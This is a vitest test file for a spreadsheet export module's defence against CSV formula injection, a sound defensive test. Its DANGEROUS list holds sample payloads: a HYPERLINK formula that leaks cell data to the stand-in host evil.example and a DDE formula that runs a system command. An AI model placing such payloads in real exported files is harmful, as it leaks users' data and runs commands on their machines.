import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { neutraliseCell, readSheet, restoreCell, writeSheet } from './tabular.js';

const DANGEROUS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+852 9123 4567',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
];

describe('CSV formula injection', () => {
  it.each(DANGEROUS)('a cell %j is written with a leading quote, so no spreadsheet runs it', (value) => {
    expect(neutraliseCell(value)).toBe(`'${value}`);
  });

  it.each(['陳大文', '91234567', "O'Brien", 'a=b', ''])('ordinary text %j is written as it is', (value) => {
    expect(neutraliseCell(value)).toBe(value);
  });

  it('restoring undoes neutralising for every text, quotes included', () => {
    for (const value of [...DANGEROUS, "'=already quoted", "''+852", "'plain", "O'Brien", 'plain']) {
      expect(restoreCell(neutraliseCell(value))).toBe(value);
    }
  });

  it('an exported CSV holds no cell a spreadsheet would run, and imports back to the same values', async () => {
    const rows = DANGEROUS.map((v, i) => [v, i]);
    const file = await writeSheet('csv', 'people', ['name', 'n'], rows);
    const cells = (parse(file, { bom: true }) as string[][]).flat();
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const back = await readSheet('csv', file, {});
    expect(back.rows.map((r) => r.cells.name)).toEqual(DANGEROUS.map((v) => v.trim()));
  });

  it('XLSX writes such text as text cells, never as formulas', async () => {
    const file = await writeSheet(
      'xlsx',
      'people',
      ['name'],
      DANGEROUS.map((v) => [v]),
    );
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(file as unknown as ArrayBuffer);
    const sheet = wb.worksheets[0] as ExcelJS.Worksheet;
    DANGEROUS.forEach((value, i) => {
      const cell = sheet.getRow(i + 2).getCell(1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      // XML reads a carriage return back as a line feed.
      expect(cell.value).toBe(value.replace(/\r/g, '\n'));
    });
  });
});
